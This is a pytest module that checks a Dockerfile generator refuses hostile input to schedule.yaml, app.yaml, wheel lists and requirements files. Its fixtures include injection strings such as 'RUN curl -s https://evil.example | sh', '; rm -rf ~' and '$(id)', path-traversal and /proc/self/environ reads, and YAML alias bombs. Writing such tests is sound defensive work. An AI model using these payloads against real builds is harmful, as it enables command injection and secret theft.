"""Issue 16: each hostile input or careless mistake of the report, refused with file:line:key (exit 2)
or rendered faithfully, never a traceback, previous generated files intact.

The I/O faults (read-only tree, full disk, kill -9, concurrent runs) are in test_hostile_faults.py,
the property-based proofs in test_hostile_props.py.
"""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from generator.core import escape, paths
from generator.images import render
from generator.locking import Index, LockError
from generator.locking import requirements as app_requirements
from generator.locking.interpreters import clean_env
from generator.locking.lockfile import wheel_list
from generator.schedule import runtimes as schedule_mod

from . import dockerfile_syntax as dsx
from . import servers
from .conftest import ROOT, SCHEDULE, edit

DIGEST = "@sha256:" + "0123456789abcdef" * 4
IMAGE = "ghcr.io/appengine-flex-python/runtimes/python312-ubuntu22:3.12.13" + DIGEST


def run(*args: str, env: dict[str, str] | None = None, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The real command line in its own process: a crash (SIGSEGV) or a traceback cannot hide."""
    proc = subprocess.run([sys.executable, "-m", "generator", *args], capture_output=True, text=True, env=env, cwd=ROOT, timeout=timeout)
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode >= 0, f"killed by signal {-proc.returncode}: {proc.stderr}"
    return proc


def generated(tree: Path) -> dict[str, bytes]:
    return {p.relative_to(tree).as_posix(): p.read_bytes() for p in sorted(tree.rglob("*")) if p.is_file()}


def refused(tree: Path, *, line_of: str, key: str) -> str:
    """`generate` on a broken schedule: exit 2, the file, line and key named, nothing written."""
    before = generated(tree)
    proc = run("--schedule", str(tree / paths.SCHEDULE), "generate")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    line = next(i for i, text in enumerate((tree / paths.SCHEDULE).read_text().splitlines(), 1) if line_of in text)
    assert f"schedule.yaml:{line}: {key}" in proc.stderr, proc.stderr
    assert generated(tree) == before
    return proc.stderr


# --- 1. the OS name: schema and template both refuse it -------------------------------------------------

CRAFTED_NAMES = [
    "Ubuntu 22.04\nRUN curl -s https://evil.example | sh",
    "Ubuntu\r\nARG BASE_IMAGE=docker.io/library/ubuntu:22.04",
    "Ubuntu \\\nARG BASE_IMAGE=ubuntu",  # a continuation that would swallow the pinned ARG line
    "Ubuntu\u2028FROM scratch",
    "Ubuntu ${BASE_IMAGE}",
    "Ubuntu `id`",
    "x" * 81,
]


@pytest.mark.parametrize("name", CRAFTED_NAMES, ids=range(len(CRAFTED_NAMES)))
def test_crafted_os_name_is_refused_by_the_schema(tree: Path, name: str) -> None:
    edit(tree / paths.SCHEDULE, "name: Ubuntu 22.04 LTS (Jammy Jellyfish)", f"name: {json.dumps(name)}")
    refused(tree, line_of="name: " + json.dumps(name)[:20], key="operating_systems.ubuntu22.name: malformed value")


@pytest.mark.parametrize("name", CRAFTED_NAMES[:-1], ids=range(len(CRAFTED_NAMES) - 1))
def test_crafted_os_name_cannot_reach_a_dockerfile_past_the_schema(name: str) -> None:
    """Defence in depth: a name that slipped past validation is refused by the template's comment filter."""
    sched = schedule_mod.load(SCHEDULE)
    os_ = dataclasses.replace(sched.model.operating_systems["ubuntu22"], name=name)
    model = dataclasses.replace(sched.model, operating_systems={**sched.model.operating_systems, "ubuntu22": os_})
    bad = schedule_mod.Schedule(sched.path, model, sched.pins)
    if any(c in name for c in "\n\r\u2028"):
        with pytest.raises(escape.RenderError, match="Dockerfile comment"):
            render.render_all(bad, ROOT)
        return
    files = render.render_all(bad, ROOT)  # harmless in a comment: the instructions are those of the real file
    for rid in ("python312-ubuntu22", "python2"):
        rel = f"images/{rid}/Dockerfile"
        assert dsx.instructions(files[rel]) == dsx.instructions((ROOT / rel).read_text())


def test_the_pinned_base_is_every_stage_s_base() -> None:
    """The runtime's stages are on the pinned base, the interpreter's on the toolchain lock's; the interpreter by its input hash."""
    for r in schedule_mod.load(SCHEDULE).runtimes.values():
        steps = dsx.instructions((ROOT / paths.IMAGES / r.id / "Dockerfile").read_text())
        assert steps[0] == dsx.Instruction("ARG", f"BASE_IMAGE={r.base_reference}")
        assert steps[1].keyword == "ARG" and steps[1].rest.startswith("INTERPRETER_IMAGE=") and ":interpreter-" in steps[1].rest
        assert [s.rest for s in steps if s.keyword == "FROM"] == ["${INTERPRETER_IMAGE} AS interpreter", "${BASE_IMAGE} AS env", "${BASE_IMAGE}"]
        steps = dsx.instructions((ROOT / "images" / r.id / "interpreter" / "Dockerfile").read_text())
        assert r.packages and steps[0] == dsx.Instruction("ARG", f"TOOLCHAIN_BASE={r.packages.toolchain_base}")
        assert [s.rest for s in steps if s.keyword == "FROM"] == ["${TOOLCHAIN_BASE} AS builder", "scratch"]


# --- 2. YAML without limits ------------------------------------------------------------------------


def _alias_bomb(levels: int = 30, fan: int = 10) -> str:
    lines = ["a0: &a0 [" + ", ".join(["lol"] * fan) + "]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * fan) + "]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


YAML_BOMBS = {
    "nested aliases": _alias_bomb(),
    "recursive alias": "runtime: python\nenv: flex\nx: &x [*x, *x]\n",
    "recursive mapping alias": "a: &a {b: *a}\n",
    "deep flow nesting": "a: " + "[" * 100_000 + "]" * 100_000 + "\n",
    "deep mapping nesting": "a: " + "{b: " * 20_000 + "c" + "}" * 20_000 + "\n",
    "deep block nesting": "".join(" " * i + f"k{i}:\n" for i in range(200)),
    "too large": "# " + "x" * (2 * 1024 * 1024) + "\n",
}


@pytest.mark.parametrize("kind", sorted(YAML_BOMBS))
def test_yaml_over_budget_is_refused_fast(tmp_path: Path, kind: str) -> None:
    assert len(_alias_bomb()) < 7 * 1024
    for target in ("schedule", "app.yaml"):
        path = tmp_path / f"{target}.yaml"
        path.write_text(YAML_BOMBS[kind])
        args = ["--schedule", str(path), "list"] if target == "schedule" else ["resolve", str(path)]
        start = time.monotonic()
        proc = run(*args, timeout=30)
        assert proc.returncode == 2, proc.stderr
        assert time.monotonic() - start < 3  # interpreter start-up included; the refusal itself takes milliseconds
        assert f"{path.name}" in proc.stderr and "error:" in proc.stderr


# --- 3. values YAML accepts and the tool could not use -------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "key", "says"),
    [
        ("end_of_support: 2027-06-01", "end_of_support: 2027-02-29", "operating_systems.ubuntu22.end_of_support", "not a valid date"),
        ('"3.4": {end_of_support: 2019-03-18}', '"3.4": {end_of_support: 0001-01-01}', "python_releases.3.4.end_of_support", "out of range"),
        ('"3.4": {end_of_support: 2019-03-18}', '"3.4": {end_of_support: 9999-12-31}', "python_releases.3.4.end_of_support", "out of range"),
        ('python: "3.8"}', "python: .nan}", "runtimes.0.python", "not a number"),
        ('python: "3.8"}', "python: .inf}", "runtimes.0.python", "not a number"),
        ('python: "3.8"}', "python: 190:20.5}", "runtimes.0.python", "quote it"),
        ('python: "3.8"}', 'python: "３.8"}', "runtimes.0.python", "malformed value"),
        ('"3.12": {end_of_support', '"3.1２": {end_of_support', "python_releases.3.1２", "malformed value"),
        ('python_version: ["3.4"]', 'python_version: ["３.4"]', "legacy_runtimes.1.python_version.0", "malformed value"),
        ("deprecation_window_days: 180", "deprecation_window_days: ١٨٠", "policy.deprecation_window_days", "whole number"),
    ],
)
def test_impossible_values_are_refused_with_file_line_key(tree: Path, old: str, new: str, key: str, says: str) -> None:
    edit(tree / paths.SCHEDULE, old, new)
    stderr = refused(tree, line_of=new, key=key.replace(".0.python", "[0].python").replace(".1.python_version.0", "[1].python_version[0]"))
    assert says in stderr


def test_non_utf8_schedule_and_app_yaml(tree: Path, tmp_path: Path) -> None:
    path = tree / paths.SCHEDULE
    data = path.read_bytes().replace(b"Jammy Jellyfish", b"Jammy \xe9 Jellyfish")
    path.write_bytes(data)
    line = data[: data.index(b"\xe9")].count(b"\n") + 1
    proc = run("--schedule", str(path), "generate")
    assert proc.returncode == 2 and f"schedule.yaml:{line}: not UTF-8 text" in proc.stderr
    app = tmp_path / "app.yaml"
    app.write_bytes(b"runtime: python\nenv: flex\nentrypoint: gunicorn \xff\n")
    proc = run("resolve", str(app))
    assert proc.returncode == 2 and "app.yaml:3: not UTF-8 text" in proc.stderr


def test_non_ascii_version_in_app_yaml_is_not_a_version(tmp_path: Path) -> None:
    app = tmp_path / "app.yaml"
    app.write_text('runtime: python\nenv: flex\nruntime_config:\n  operating_system: ubuntu22\n  runtime_version: "３.12"\n')
    proc = run("resolve", str(app))
    assert proc.returncode == 2 and "'３.12' is not offered on ubuntu22; valid choices: 3.10, 3.11, 3.12, 3.13" in proc.stderr
    app.write_text('runtime: python\nenv: flex\nruntime_config:\n  python_version: "３"\n')
    proc = run("resolve", str(app))
    assert proc.returncode == 2 and "valid choices: 2, 3, 3.4" in proc.stderr


# --- 4. file names of the wheels list ---------------------------------------------------------------

BAD_FILENAMES = ["../../../evil.whl", "/etc/cron.d/evil.tar.gz", "pip-24.0-py3-none-any.whl; rm -rf ~", 'a"b.whl', "a b.tar.gz"]
BAD_FILENAMES += ["$(id).zip", ".hidden.whl", "x.whl\nRUN id"]


@pytest.mark.parametrize("filename", BAD_FILENAMES)
def test_bad_wheel_file_names_are_refused_before_use(tree: Path, filename: str) -> None:
    from generator.images import build

    wheels = tree / paths.LOCKFILES / "python312-ubuntu22.wheels.json"
    data = json.loads(wheels.read_text())
    data[0]["filename"] = filename
    wheels.write_text(json.dumps(data))
    before = generated(tree)
    proc = run("--schedule", str(tree / paths.SCHEDULE), "generate")
    assert proc.returncode == 2, proc.stderr
    assert "lockfiles/python312-ubuntu22.wheels.json: 0.filename: malformed value" in proc.stderr
    assert generated(tree) == before
    sched = schedule_mod.load(tree / paths.SCHEDULE)
    out = tree.parent / "ctx"
    with pytest.raises(escape.RenderError):  # the build context is never assembled from it
        build.prepare_context(sched, sched.runtimes["python312-ubuntu22"], out / "inner")
    assert not out.exists()


@pytest.fixture
def evil_index():
    """A real HTTP index whose project page lists a file named to escape the build context."""
    sha = "ab" * 32

    class Handler(servers.QuietHandler):
        def do_GET(self):
            body = json.dumps({"files": [{"filename": "../../evil-1.0.tar.gz", "url": "evil-1.0.tar.gz", "hashes": {"sha256": sha}}]}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/vnd.pypi.simple.v1+json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    with servers.running(Handler) as url:
        yield f"{url}/simple", sha


def test_lock_time_refuses_a_file_name_an_index_lists(evil_index, monkeypatch) -> None:
    for k in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(k, raising=False)
    url, sha = evil_index
    with pytest.raises(LockError, match=r"0\.filename: malformed value '\.\./\.\./evil-1\.0\.tar\.gz'"):
        wheel_list(f"evil==1.0 \\\n    --hash=sha256:{sha}\n", Index(url), "3.12.13", (2, 35))


# --- 5. lock-app never reads, or shows, a file outside the app ------------------------------------------


def _app(tmp_path: Path, requirements: str, name: str = "requirements.in") -> Path:
    app = tmp_path / "app"
    app.mkdir(parents=True, exist_ok=True)
    (app / "app.yaml").write_text("runtime: python\nenv: flex\nruntime_config:\n  operating_system: ubuntu22\n")
    (app / name).write_text(requirements)
    return app


@pytest.mark.parametrize(
    "requirements",
    [
        "-r /proc/self/environ\n",
        "--requirement=/proc/self/environ\n",
        "-c/proc/self/environ\n",
        "flask\n-r ../secret.txt\n",
        "file:///proc/self/environ\n",
    ],
)
def test_lock_app_refuses_references_outside_the_app(tmp_path: Path, requirements: str) -> None:
    app = _app(tmp_path, requirements)
    (tmp_path / "secret.txt").write_text("TOKEN=hunter2-from-a-file\n")
    env = {**os.environ, "GH_TOKEN": "hunter2-from-the-env"}
    for extra in ([], ["--check"]):
        proc = run("lock-app", str(app), *extra, env=env)
        assert proc.returncode == 2, proc.stderr
        assert "points outside the app directory" in proc.stderr and "requirements.in:" in proc.stderr
        assert "hunter2" not in proc.stdout + proc.stderr


def test_lock_app_follows_chains_and_symlinks(tmp_path: Path) -> None:
    app = _app(tmp_path, "-r base.in\n")
    (app / "base.in").write_text("flask\n-c constraints/c.txt\n")
    (app / "constraints").mkdir()
    (app / "constraints" / "c.txt").write_text("-r ../base.in\n")  # a cycle is fine
    read = app_requirements.read(app, "requirements.in", app_requirements.LOCK)
    assert read.copy == ["requirements.in", "base.in", "constraints/c.txt"] and read.names == {"flask"}
    (app / "constraints" / "c.txt").unlink()
    (app / "constraints" / "c.txt").symlink_to("/etc/passwd")
    outside = r"base\.in:2: -c constraints/c\.txt points outside the app directory \(/etc/passwd\)"
    with pytest.raises(app_requirements.RequirementsError, match=outside):
        app_requirements.read(app, "requirements.in", app_requirements.LOCK)
    unpinned = _app(tmp_path / "u", "-r /etc/passwd\n", name="requirements.txt")
    proc = run("lock-app", str(unpinned))
    assert proc.returncode == 2 and "requirements.txt:1: -r /etc/passwd points outside the app directory" in proc.stderr
    assert not (unpinned / "requirements.in").exists()


def _chain(app: Path) -> None:
    for i in range(app_requirements.MAX_FILES + 1):
        (app / f"r{i}.txt").write_text(f"-r r{i + 1}.txt\n")
    (app / f"r{app_requirements.MAX_FILES + 1}.txt").write_text("six\n")


# name: requirements.txt, set-up, what both commands say
REFUSED = {
    "find-links": ("six\n--find-links ../wheels\n", None, "requirements.txt:2: --find-links ../wheels points outside the app directory"),
    "file index": ("--extra-index-url file:../wheels\nsix\n", None, "requirements.txt:1: --extra-index-url file:../wheels points outside the app"),
    "-r file:": ("-r file:../secret.txt\n", None, "requirements.txt:1: -r file:../secret.txt points outside the app directory"),
    "-e": ("-e ../wheels\n", None, "requirements.txt:1: -e ../wheels points outside the app directory"),
    "nested link": ("-r base.txt\n", lambda app: (app / "base.txt").symlink_to("../secret.txt"), "requirements.txt:1: -r base.txt points outside"),
    "top link": (
        None,
        lambda app: (app / "requirements.txt").symlink_to("../secret.txt"),
        "requirements.txt: is a symlink to a file outside the app",
    ),
    "size": ("six\n" + "#" * app_requirements.MAX_BYTES, None, "requirements.txt: larger than 1024 KiB; this is not a requirements file"),
    "chain": ("-r r0.txt\n", _chain, f"more than {app_requirements.MAX_FILES} requirements files are chained with -r/-c"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_app_and_lock_app_refuse_references_alike(cli, tmp_path: Path, case: str) -> None:
    """One reader for both commands: the same refusal, in the same words, and nothing of the file outside shown."""
    text, setup, says = REFUSED[case]
    (tmp_path / "secret.txt").write_text("TOKEN=hunter2-from-a-file\n")
    (tmp_path / "wheels").mkdir()
    app = tmp_path / "app"
    app.mkdir()
    (app / "app.yaml").write_text("runtime: python\nenv: flex\nentrypoint: gunicorn -b :$PORT main:app\n")
    if text is not None:
        (app / "requirements.txt").write_text(text)
    if setup:
        setup(app)
    errors = []
    for args in (("app", str(app), "--runtime-image", IMAGE, "--build-image", IMAGE), ("lock-app", str(app), "--check")):
        result = cli(*args)
        assert result.exit_code == 2, (args, result.output)
        assert says in result.stderr and "hunter2" not in result.output, (args, result.output)
        errors.append(result.stderr)
    assert errors[0] == errors[1]
    assert not (app / "Dockerfile").exists() and not (app / "requirements.in").exists()


def test_lock_app_allows_what_pip_fetches_itself(cli, tmp_path: Path) -> None:
    """Remote -r files, URL and VCS requirements are read by pip from the network, in the image and when locking: not refused."""
    app = _app(tmp_path, "-r https://example.com/r.txt\nsix @ https://example.com/six-1.0-py3-none-any.whl\ngit+https://example.com/x.git#egg=x\n")
    (app / "app.yaml").write_text((app / "app.yaml").read_text() + "entrypoint: python main.py\n")
    result = cli("lock-app", str(app), "--check")
    assert result.exit_code == 1 and "missing:" in result.stderr, result.output  # not locked yet; not refused
    (app / "requirements.in").rename(app / "requirements.txt")
    assert cli("app", str(app), "--runtime-image", IMAGE, "--build-image", IMAGE).exit_code == 0


def test_tools_get_an_allowlisted_environment(monkeypatch) -> None:
    monkeypatch.setenv("GH_TOKEN", "hunter2")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    monkeypatch.setenv("PIP_INDEX_URL", "https://user:hunter2@example.com/simple")
    env = clean_env(PIP_CACHE_DIR="/tmp/x")
    assert "hunter2" not in json.dumps(env)
    assert env["PATH"] == os.environ["PATH"] and env["PIP_CACHE_DIR"] == "/tmp/x" and env["PIP_CONFIG_FILE"] == os.devnull


# --- 7. publish.source: the label says what runtimes.json says -----------------------------------------


def test_source_with_ampersand_and_quote_is_one_value_everywhere(tree: Path) -> None:
    source = "https://example.com/runtimes?a=1&b='2'&c=(3)"
    edit(tree / paths.SCHEDULE, "source: https://github.com/appengine-flex-python/runtimes", f'source: "{source}"')
    assert run("--schedule", str(tree / paths.SCHEDULE), "generate").returncode == 0
    data = json.loads((tree / paths.RUNTIMES_JSON).read_text())
    for rid, entry in data["runtimes"].items():
        assert entry["config"]["Labels"]["org.opencontainers.image.source"] == source
        steps = dsx.instructions((tree / paths.IMAGES / rid / "Dockerfile").read_text())
        (label,) = [dsx.pairs(s.rest) for s in steps if s.keyword == "LABEL"]
        assert label == entry["config"]["Labels"]
    assert run("--schedule", str(tree / paths.SCHEDULE), "generate", "--check").returncode == 0


def test_source_with_a_dollar_is_refused(tree: Path) -> None:
    edit(tree / paths.SCHEDULE, "source: https://github.com/appengine-flex-python/runtimes", 'source: "https://example.com/$HOME"')
    refused(tree, line_of="source: ", key="publish.source: malformed value")


@pytest.mark.parametrize("value", ["a$HOME", "${x:-y}", "&<>'\"\\", "\\$", "trailing\\", "ünïcode ☃", ""])
def test_docker_quoted_reads_back_exactly(value: str) -> None:
    assert dsx.pairs(f"k={escape.docker_quoted(value)}") == {"k": value}
    assert dsx.pairs(escape.docker_env(f"K={value}")) == {"K": value}


def test_other_targets_escape_or_refuse() -> None:
    assert escape.json_value("&'<>") == '"&\'<>"'  # not Jinja's HTML-safe \u0026
    assert escape.nix_string('a"${b}\\c') == '"a\\"\\${b}\\\\c"'
    assert escape.md_cell("a|b<c>`d`") == "a\\|b&lt;c&gt;\\`d\\`"
    assert escape.md_code("a|b") == "a\\|b"
    for f in (escape.md_code, escape.dockerfile_comment):
        with pytest.raises(escape.RenderError):
            f("a`b\nc" if f is escape.md_code else "é")
    with pytest.raises(escape.RenderError, match="podman drops longer ones"):
        escape.check_dockerfile("FROM x\nENV A=" + "a" * 70_000 + "\n", "Dockerfile")


# --- 8 and 9. env keys, and values too long for a Dockerfile line --------------------------------------


def _app_yaml(tmp_path: Path, text: str) -> Path:
    app = tmp_path / "app"
    app.mkdir(exist_ok=True)
    (app / "app.yaml").write_text("runtime: python\nenv: flex\nruntime_config:\n  operating_system: ubuntu22\n" + text)
    return app


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('entrypoint: gunicorn\nenv_variables:\n  "FOO\\n": x\n', "'FOO\\n' is not a valid variable name"),
        ('entrypoint: gunicorn\nenv_variables:\n  "FÖO": x\n', "is not a valid variable name"),
        ('entrypoint: gunicorn\nenv_variables:\n  FOO: "a\\u2028RUN id"\n', "control character"),
        ("entrypoint: gunicorn\nenv_variables:\n  BIG: " + "a" * 65_536 + "\n", "65536 characters; at most 4096"),
        ("entrypoint: gunicorn " + "a " * 500_000 + "\n", "entrypoint: 1000008 characters; at most 4096"),
    ],
    ids=["newline key", "non-ascii key", "line separator", "64 KiB value", "1 MiB entrypoint"],
)
def test_app_values_that_cannot_be_one_dockerfile_line(tmp_path: Path, text: str, says: str) -> None:
    app = _app_yaml(tmp_path, text)
    start = time.monotonic()
    proc = run("app", str(app), "--runtime-image", IMAGE, "--build-image", IMAGE)
    assert proc.returncode == 2, proc.stderr
    assert says in proc.stderr
    assert time.monotonic() - start < 5
    assert not (app / "Dockerfile").exists()


def test_lock_refuses_a_runtime_input_that_reads_outside_lockfiles(tree: Path) -> None:
    (tree / paths.LOCKFILES / "python312-ubuntu22.in").write_text("pip\n-r /proc/self/environ\n")
    env = {**os.environ, "GH_TOKEN": "hunter2-from-the-env", "FLEX_PYTHON_TOOLS_INDEX_URL": "http://127.0.0.1:9/"}
    proc = run("--schedule", str(tree / paths.SCHEDULE), "lock", "python312-ubuntu22", "--index-url", "http://127.0.0.1:9/simple", env=env)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "python312-ubuntu22.in:2: -r /proc/self/environ points outside the lock directory" in proc.stdout
    assert "hunter2" not in proc.stdout + proc.stderr


def test_the_last_resort_is_one_line_without_a_traceback() -> None:
    from generator.cli import last_resort

    assert last_resort(OSError(28, "No space left on device", "/srv/tree/README.md")) == "/srv/tree/README.md: No space left on device"
    assert last_resort(RecursionError()).startswith("the input is too large or too deeply nested")
    assert "GENERATOR_DEBUG=1" in last_resort(KeyError("x"))
